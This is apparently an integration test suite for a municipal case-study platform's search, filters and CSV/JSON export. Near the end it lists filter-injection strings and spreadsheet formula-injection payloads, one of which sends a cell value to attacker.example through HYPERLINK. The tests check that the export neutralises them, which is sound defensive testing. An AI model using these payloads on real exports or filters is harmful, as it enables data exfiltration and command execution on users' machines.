import { type SearchResponse } from '@twinning/contracts';
import { type MunicipalityEntity } from '../src/municipalities/municipality.entity';
import { completeContent, insertCaseStudy } from './factories/case-study.factory';
import { insertMunicipality, insertPartnership } from './factories/municipality.factory';
import { insertUser } from './factories/user.factory';
import { startSession, type TestSession, withSession } from './support/sessions';
import { type TestApp, createTestApp } from './support/test-app';
import { waitUntil } from './support/wait';

/** A complete case study whose texts all speak of its own title, so searches tell them apart. */
function distinct(overrides: Parameters<typeof completeContent>[0] & { title: string }) {
  const text = `${overrides.title}.`;
  return completeContent({
    summary: text,
    context: text,
    whatWasDone: text,
    results: text,
    indicators: [],
    whatWorked: text,
    whatDidNotWork: text,
    whatWeWouldDoDifferently: text,
    preconditions: text,
    tipsForAdopters: text,
    ...overrides,
  });
}

describe('search against the real Meilisearch, fed from PostgreSQL through the outbox', () => {
  let t: TestApp;
  let istanbul: MunicipalityEntity;
  let darmstadt: MunicipalityEntity;
  let bursa: MunicipalityEntity;
  let staff: TestSession;
  let moderator: TestSession;

  const search = async (query: string): Promise<SearchResponse> => {
    const response = await t.http.get(`/api/v1/search?${query}`);
    expect(response.status).toBe(200);
    return response.body as SearchResponse;
  };
  const titles = async (query: string) => (await search(query)).hits.map((hit) => hit.title);
  const outboxDrained = async () => (await t.dataSource.query(`SELECT count(*)::int AS count FROM search_outbox`))[0].count === 0;

  beforeAll(async () => {
    t = await createTestApp();
    istanbul = await insertMunicipality(t.dataSource, { nameLocal: 'İstanbul', nameEn: 'Istanbul', kind: 'metropolitan', population: 15_000_000 });
    darmstadt = await insertMunicipality(t.dataSource, { nameLocal: 'Darmstadt', nameEn: 'Darmstadt', country: 'DE', population: 160_000 });
    bursa = await insertMunicipality(t.dataSource, { nameLocal: 'Bursa', nameEn: 'Bursa', kind: 'metropolitan', population: 3_200_000 });
    await insertPartnership(t.dataSource, bursa, darmstadt);
    staff = await startSession(t, (await insertUser(t.dataSource, { municipalityId: bursa.id })).id);
    moderator = await startSession(t, (await insertUser(t.dataSource, { role: 'moderator' })).id);

    const published = [
      { municipalityId: darmstadt.id, content: distinct({ title: 'Separate collection of organic waste', language: 'en', sdgs: [11, 12], themes: ['water_waste'], startDate: '2018-05-01' }) },
      { municipalityId: istanbul.id, content: distinct({ title: 'Gençlik meclisi ile katılımcı bütçe', summary: 'Gençler belediye bütçesinin bir kısmına karar verdi.', language: 'tr', sdgs: [16], themes: ['youth', 'governance_participation'], startDate: '2020-01-10' }) },
      { municipalityId: bursa.id, content: distinct({ title: 'Protected bicycle lanes on the coast road', whatWorked: 'Painted kerbs kept the cyclists apart from the cars.', language: 'en', sdgs: [11, 13], themes: ['mobility'], startDate: '2021-03-01' }) },
      { municipalityId: istanbul.id, content: distinct({ title: 'Atık ayrıştırma istasyonları', summary: 'Mahallelerde geri dönüşüm istasyonları kurduk.', language: 'tr', sdgs: [12], themes: ['water_waste', 'environment_climate'], startDate: '2019-09-01' }) },
    ];
    for (const fixture of published) await insertCaseStudy(t.dataSource, { ...fixture, status: 'published' });
    await insertCaseStudy(t.dataSource, { municipalityId: bursa.id, status: 'draft', content: distinct({ title: 'A draft about bicycle parking' }) });
    await waitUntil('the outbox to drain into Meilisearch', outboxDrained);
  });

  afterAll(() => t.close());

  it('finds published case studies only, with the total and the time taken', async () => {
    const all = await search('');
    expect(all.total).toBe(4);
    expect(all.degraded).toBe(false);
    expect(all.tookMs).toBeGreaterThan(0);
    expect(await titles('q=bicycle')).toEqual(['Protected bicycle lanes on the coast road']);
  });

  it('tolerates a typo', async () => {
    expect(await titles('q=bicyle%20lanes')).toEqual(['Protected bicycle lanes on the coast road']);
  });

  it('finds an English case study with a Turkish word, and a Turkish one with an English word', async () => {
    expect(await titles('q=atık')).toEqual(expect.arrayContaining(['Separate collection of organic waste', 'Atık ayrıştırma istasyonları']));
    expect(await titles('q=youth')).toContain('Gençlik meclisi ile katılımcı bütçe');
    expect(await titles('q=participatory%20budget')).toContain('Gençlik meclisi ile katılımcı bütçe');
  });

  it('finds English and Turkish case studies with a German word', async () => {
    expect(await titles('q=Abfall')).toEqual(expect.arrayContaining(['Separate collection of organic waste', 'Atık ayrıştırma istasyonları']));
    expect(await titles('q=Jugend')).toContain('Gençlik meclisi ile katılımcı bütçe');
    expect(await titles('q=B%C3%BCrgerhaushalt')).toContain('Gençlik meclisi ile katılımcı bütçe');
  });

  it('matches Turkish letters by their plain forms: istanbul finds İstanbul, genclik finds Gençlik', async () => {
    expect((await titles('q=istanbul')).sort()).toEqual(['Atık ayrıştırma istasyonları', 'Gençlik meclisi ile katılımcı bütçe']);
    expect(await titles('q=genclik')).toEqual(['Gençlik meclisi ile katılımcı bütçe']);
    // "atık" is also "waste" in the glossary; the Turkish words themselves rank first.
    expect((await titles('q=atik%20ayristirma'))[0]).toBe('Atık ayrıştırma istasyonları');
  });

  it('highlights what matched, with markers that are not HTML', async () => {
    const [hit] = (await search('q=bicycle')).hits;
    expect(hit.highlight.title).toBe('Protected \uE000bicycle\uE001 lanes on the coast road');
    // Lessons are cropped around the match, though the hit itself does not carry them.
    const [lesson] = (await search('q=kerbs')).hits;
    expect(lesson.highlight.lessons).toContain('Painted \uE000kerbs\uE001 kept the cyclists');
    expect(lesson.municipality?.nameEn).toBe('Bursa');
  });

  it('answers with the hits alone when asked for no facets, as the home page\'s cards are', async () => {
    const full = await search('sort=newest&per_page=3');
    const cardsOnly = await search('sort=newest&per_page=3&facets=false');

    expect(cardsOnly.hits.map((hit) => hit.id)).toEqual(full.hits.map((hit) => hit.id));
    expect(cardsOnly.total).toBe(full.total);
    expect(full.facets.sdg.length).toBeGreaterThan(0);
    expect(Object.values(cardsOnly.facets).every((values) => values.length === 0)).toBe(true);
    expect(JSON.stringify(cardsOnly).length).toBeLessThan(JSON.stringify(full).length);
    expect((await t.http.get('/api/v1/search?facets=maybe')).status).toBe(400);
  });

  it('counts every facet as SQL does, and keeps the other values of an active filter', async () => {
    /** Published case studies per value of a list field of the content, counted by PostgreSQL. */
    const sql = async (field: 'sdgs' | 'themes', where = '') =>
      Object.fromEntries(
        ((await t.dataSource.query(
          `SELECT value, count(*)::int AS count FROM case_studies cs JOIN case_study_revisions r ON r.id = cs.published_revision_id,
           jsonb_array_elements_text(r.content->'${field}') AS value WHERE cs.status <> 'archived' ${where} GROUP BY value`,
        )) as { value: string; count: number }[]).map((row) => [row.value, row.count]),
      );
    const counts = (facets: { value: string; count: number }[]) => Object.fromEntries(facets.map((facet) => [facet.value, facet.count]));
    const unfiltered = await search('');
    expect(counts(unfiltered.facets.sdg)).toEqual(await sql('sdgs'));
    expect(counts(unfiltered.facets.theme)).toEqual(await sql('themes'));

    const filtered = await search('sdg=11&theme=mobility');
    expect(filtered.total).toBe(1);
    // Each filter's counts ignore that filter itself (so another value can be added) and keep the others.
    expect(counts(filtered.facets.sdg)).toEqual(await sql('sdgs', `AND r.content->'themes' ? 'mobility'`));
    expect(counts(filtered.facets.theme)).toEqual(await sql('themes', `AND r.content->'sdgs' @> '11'`));
  });

  it('filters by country, language, year and partner towns; values of one filter are alternatives', async () => {
    expect((await search('country=DE')).total).toBe(1);
    expect((await search('language=tr&language=en')).total).toBe(4);
    expect((await titles('year_from=2020'))).toEqual(expect.arrayContaining(['Gençlik meclisi ile katılımcı bütçe', 'Protected bicycle lanes on the coast road']));
    expect((await search('year_from=2020')).total).toBe(2);
    expect(await titles(`partners_of=${bursa.id}`)).toEqual(['Separate collection of organic waste']);
    const municipalityFacet = (await search('')).facets.municipality;
    expect(municipalityFacet.find((facet) => facet.value === istanbul.id)).toEqual({ value: istanbul.id, count: 2, label: 'İstanbul' });
  });

  it.each([
    'country=TR%22%20OR%20country%20%3D%20%22DE',
    'theme=mobility%22%20OR%20themes%20EXISTS%20OR%20themes%3D%22',
    'municipality=x%22%20OR%201%3D1',
    'sdg=11%20OR%20sdgs%20EXISTS',
    'sort=publishedAt:asc',
    'year_from=2020%20OR%201',
    `partners_of=${'1'.repeat(36)}`,
  ])('refuses a filter value that could change the filter (%s) with 400', async (query) => {
    const response = await t.http.get(`/api/v1/search?${query}`);
    expect(response.status).toBe(400);
    expect(response.body.code).toBe('validation_failed');
  });

  it('makes a published case study searchable, and an archived one disappear', async () => {
    const { caseStudy, revision } = await insertCaseStudy(t.dataSource, {
      municipalityId: bursa.id,
      status: 'submitted',
      content: distinct({ title: 'Rooftop solar on school buildings', themes: ['energy'], sdgs: [7] }),
    });
    const decided = await withSession(t.http.post(`/api/v1/moderation/revisions/${revision!.id}/decision`), moderator).send({ decision: 'approve', comment: '', sectionComments: {} });
    expect(decided.status).toBe(200);
    await waitUntil('the approved case study to be searchable', async () => (await titles('q=rooftop%20solar')).length === 1);

    expect((await withSession(t.http.post(`/api/v1/case-studies/${caseStudy.id}/archive`), staff)).status).toBe(200);
    await waitUntil('the archived case study to leave the index', async () => (await titles('q=rooftop%20solar')).length === 0);
  });

  it('hides the town of an anonymous case study from search and its filters', async () => {
    const { caseStudy } = await insertCaseStudy(t.dataSource, {
      municipalityId: bursa.id,
      status: 'published',
      publishAnonymously: true,
      content: distinct({ title: 'Smart parking sensors that failed', outcome: 'failure', failureCauses: [{ cause: 'technical', note: 'Sensors froze.' }], failureStage: 'operation' }),
    });
    await waitUntil('the anonymous case study to be indexed', outboxDrained);
    const [hit] = (await search('q=smart%20parking')).hits;
    expect(hit).toMatchObject({ id: caseStudy.id, municipality: null, anonymousOrigin: { kind: null, country: null }, country: null });
    expect(await titles(`municipality=${bursa.id}`)).not.toContain('Smart parking sensors that failed');
    expect(await titles('q=bursa')).not.toContain('Smart parking sensors that failed');
  });

  it('suggests similar practices, never the case study itself', async () => {
    const [waste] = (await search('q=organic%20waste')).hits;
    const similar = (await t.http.get(`/api/v1/case-studies/${waste.id}/similar`)).body as { id: string; title: string }[];
    expect(similar.map((hit) => hit.title)).toContain('Atık ayrıştırma istasyonları');
    expect(similar.map((hit) => hit.id)).not.toContain(waste.id);
  });

  it('reports the outbox in the health check', async () => {
    const health = (await t.http.get('/api/health')).body;
    expect(health.searchOutbox).toEqual({ pending: 0, oldestPendingSeconds: null, parked: 0 });
  });

  it('exports what a search matches as CSV, quoting commas, quotes and line breaks, and nothing unpublished', async () => {
    const tricky = 'Waste, "zero" and\nmore';
    await insertCaseStudy(t.dataSource, { municipalityId: darmstadt.id, status: 'published', content: distinct({ title: tricky, themes: ['water_waste'] }) });
    await waitUntil('the tricky title to be indexed', outboxDrained);
    const csv = await t.http.get('/api/v1/search/export?format=csv');
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    expect(csv.headers['content-disposition']).toContain('twinning-exchange-case-studies.csv');
    expect(csv.headers.link).toBe('<https://creativecommons.org/licenses/by/4.0/>; rel="license"');
    expect(csv.text.split('\r\n')[0]).toBe(
      'id,url,title,summary,language,outcome,sdgs,themes,country,municipality,start_year,published_at,adaptation_count,featured,sdg_targets,' +
        'context,what_was_done,results,indicators,what_worked,what_did_not_work,what_we_would_do_differently,failure_causes,failure_stage,salvaged,' +
        'preconditions,tips_for_adopters,budget_amount,budget_currency,funding_sources,co_financing_percent,after_funding,staff_and_time,start_date,end_date,licence',
    );
    expect(csv.text).toContain('"Waste, ""zero"" and\nmore"');
    expect(csv.text).not.toContain('A draft about bicycle parking');

    const json = (await t.http.get('/api/v1/search/export?format=json&theme=water_waste')).body as { title: string; municipality: string }[];
    expect(json.map((record) => record.title).sort()).toEqual(['Atık ayrıştırma istasyonları', 'Separate collection of organic waste', tricky].sort());
    const published = (await t.dataSource.query(`SELECT count(*)::int AS count FROM case_studies WHERE published_revision_id IS NOT NULL AND status <> 'archived'`))[0].count;
    expect((await t.http.get('/api/v1/search/export?format=json')).body).toHaveLength(published);
    expect((await t.http.get('/api/v1/search/export?format=xml')).status).toBe(400);
  });

  it('exports every public field of the published version under its licence, and no contact or partner town', async () => {
    const content = distinct({
      title: 'Solar roofs on school buildings, a partial success',
      outcome: 'partial',
      whatWorked: 'Pupils read the meters every week.',
      failureCauses: [{ cause: 'technical', note: 'The first tender drew one bid, twice the budget.' }],
      failureStage: 'procurement',
      salvaged: 'Three roofs out of eight.',
      indicators: [{ name: 'Installed capacity', unit: 'kWp', baseline: 0, target: 400, achieved: 150, sdgTarget: null, unIndicator: null }],
      budgetAmount: 250_000,
      budgetCurrency: 'EUR',
      coFinancingPercent: 40,
      afterFunding: 'The savings pay the upkeep.',
      contactName: 'Ayşe Yılmaz',
      contactEmail: 'ayse@bursa.example',
      partnerMunicipalityIds: [darmstadt.id],
    });
    const { id } = (await insertCaseStudy(t.dataSource, { municipalityId: bursa.id, status: 'published', content })).caseStudy;
    // A later draft is not what the public reads: the export takes the published version.
    await t.dataSource.query(`UPDATE case_studies SET content = jsonb_set(content, '{whatWorked}', '"an unpublished edit"') WHERE id = $1`, [id]);
    await waitUntil('the solar roofs to be indexed', outboxDrained);

    const json = (await t.http.get('/api/v1/search/export?format=json&q=solar%20roofs')).body as Record<string, unknown>[];
    const record = json.find((item) => item.id === id);
    expect(record).toMatchObject({
      what_worked: 'Pupils read the meters every week.',
      what_did_not_work: content.whatDidNotWork,
      failure_causes: [{ cause: 'technical', note: 'The first tender drew one bid, twice the budget.' }],
      failure_stage: 'procurement',
      salvaged: 'Three roofs out of eight.',
      indicators: [{ name: 'Installed capacity', unit: 'kWp', baseline: 0, target: 400, achieved: 150, sdgTarget: null, unIndicator: null }],
      budget_amount: 250_000,
      budget_currency: 'EUR',
      funding_sources: content.fundingSources,
      co_financing_percent: 40,
      after_funding: 'The savings pay the upkeep.',
      start_date: content.startDate,
      licence: 'https://creativecommons.org/licenses/by/4.0/',
    });
    const text = JSON.stringify(record);
    expect(text).not.toContain('ayse@bursa.example');
    expect(text).not.toContain('Ayşe Yılmaz');
    expect(text).not.toContain(darmstadt.id);
    expect(text).not.toContain('an unpublished edit');

    const csv = (await t.http.get('/api/v1/search/export?format=csv&q=solar%20roofs')).text;
    // A list of objects is one cell of JSON text (PostgreSQL keeps the keys in its own order).
    const cell = /"(\[\{""name"":""Installed capacity""[^\r\n]*?\}\])"/.exec(csv)?.[1];
    expect(JSON.parse(cell!.replace(/""/g, '"'))).toEqual([{ name: 'Installed capacity', unit: 'kWp', baseline: 0, target: 400, achieved: 150, sdgTarget: null, unIndicator: null }]);
    expect(csv).toContain(',250000,EUR,');
  });

  it('exports titles and summaries that start like a formula with a leading quote, so no spreadsheet runs them', async () => {
    const formulas = ['=HYPERLINK("http://attacker.example/?"&A1,"Open")', '+1+cmd|calc!A0', '-2+3', '@SUM(1+1)*cmd|calc!A0', '\t=1+1', '\r=1+1'];
    for (const title of formulas) await insertCaseStudy(t.dataSource, { municipalityId: darmstadt.id, status: 'published', content: distinct({ title }) });
    await waitUntil('the formula titles to be indexed', outboxDrained);

    const csv = (await t.http.get('/api/v1/search/export?format=csv')).text;
    for (const title of formulas) {
      const quoted = (text: string) => `"'${text.replace(/"/g, '""')}"`;
      // Title and summary, side by side, each behind a quote and inside double quotes.
      expect(csv).toContain(`,${quoted(title)},${quoted(`${title}.`)},`);
    }
    expect(csv).not.toMatch(/(^|,|\r\n)[=+\-@\t]/);
    const json = (await t.http.get('/api/v1/search/export?format=json')).body as { title: string }[];
    expect(json.map((record) => record.title)).toEqual(expect.arrayContaining(formulas));
  });

  it('reads no glossary word as a typo of another: "waste" does not find water, a misspelt word still finds its word', async () => {
    await insertCaseStudy(t.dataSource, { municipalityId: darmstadt.id, status: 'published', content: distinct({ title: 'Drinking water fountains in parks', language: 'en', themes: ['health'] }) });
    await waitUntil('the fountains to be indexed', outboxDrained);
    expect(await titles('q=water')).toContain('Drinking water fountains in parks');
    // With one typo and as a prefix, "waste" would be "wate…": water.
    expect(await titles('q=waste')).not.toContain('Drinking water fountains in parks');
    expect(await titles('q=fountans')).toEqual(['Drinking water fountains in parks']);
    // Through the glossary's terms indexed with each case study, in German too.
    expect(await titles('q=Wasser')).toContain('Drinking water fountains in parks');
  });
});

